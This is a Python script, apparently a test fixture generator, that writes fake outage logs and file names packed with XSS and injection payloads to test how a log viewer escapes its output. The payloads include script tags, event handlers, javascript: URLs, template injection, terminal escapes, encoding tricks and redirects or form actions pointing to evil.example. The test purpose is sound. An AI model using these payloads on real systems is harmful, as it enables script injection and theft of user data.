"""attack.py FOLDER: logs of an outage whose every field is an attack on whoever shows them."""
import os
import sys
import time

ATTACKS = [
    b"<script>pwned=1</script>",
    b"<img src=x onerror=pwned=1>",
    b"<svg onload=pwned=1><script>pwned=1</script></svg>",
    b"<svg><style><img src=x onerror=pwned=1></style></svg>",
    b"<math><mi//xlink:href=\"data:x,<script>pwned=1</script>\">",
    b"</style><script>pwned=1</script>",
    b"</title></text></svg></pre></details></main><script>pwned=1</script>",
    b"]]><script>pwned=1</script><![CDATA[",
    b"--><script>pwned=1</script><!--",
    b"&lt;script&gt;pwned=1&lt;/script&gt;",
    b"&#60;script&#62;pwned=1&#x3c;/script>",
    b"'\" onmouseover=pwned=1 autofocus onfocus=pwned=1 x='",
    b"\" style=\"position:fixed;inset:0\" x=\"",
    b"javascript:pwned=1",
    b"<a href=javascript:pwned=1>click</a>",
    b"<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    b"<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
    b"<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    b"<form action=https://evil.example><input name=q autofocus>",
    b"<details open ontoggle=pwned=1>",
    b"<plaintext>",
    b"<xmp>",
    b"<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
    b"<template><script>pwned=1</script></template>",
    "‮gnp.exe ⁦‏ ​".encode(),
    b"\xff\xfe\xc0\xbcscript\xc0\xbepwned=1\xc0\xbc/script\xc0\xbe",
    b"\xed\xa0\x80<\x00script>pwned=1</script>",
    b"\x1b]0;owned\x07\x1b[31m<b>",
    "\u2028<script>pwned=1</script>\u2029".encode(),
    b"+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
    b"{{constructor.constructor('pwned=1')()}}",
    b"${pwned=1}",
    b"{{style}}{{script}}{{main}}",
]
START = 1718355600  # 2024-06-14T09:00:00Z


def stamp(second, form):
    return time.strftime(form, time.gmtime(START + second)).encode()


def main(folder):
    access, app, notes = [], [], []
    for second in range(0, 7200):
        attack = ATTACKS[second % len(ATTACKS)]
        failing = 2400 <= second < 4200
        path = b"/" + attack if failing or second % 7 == 0 else b"/cart"
        access.append(b"192.0.2.%d - - [%s +0000] \"GET %s HTTP/1.1\" %d 512 \"-\" \"%s\"\n" %
                      (second % 200, stamp(second, "%d/%b/%Y:%H:%M:%S"), path, 502 if failing else 200, attack))
        if failing and second % 20 == 0:
            app.append(b"%s ERROR [main] %s cannot be reached: %s\n" % (stamp(second, "%Y-%m-%d %H:%M:%S,000"), attack, attack))
    for n, attack in enumerate(ATTACKS):
        notes.append(b"%s @eve%s: %s\n" % (stamp(2300 + 60 * n, "%Y-%m-%dT%H:%M:%SZ"), attack.split(b" ")[0].replace(b"/", b""), b"restarted " + attack))
    files = {"access.log": access, "app.log": app, "notes.txt": notes, "<img src=x onerror=pwned=1>.log": app[:40], "\"><script>pwned=1<.log": notes[:20]}
    for name, lines in files.items():
        with open(os.path.join(folder, name), "wb") as file:
            file.write(b"".join(lines))


main(sys.argv[1])
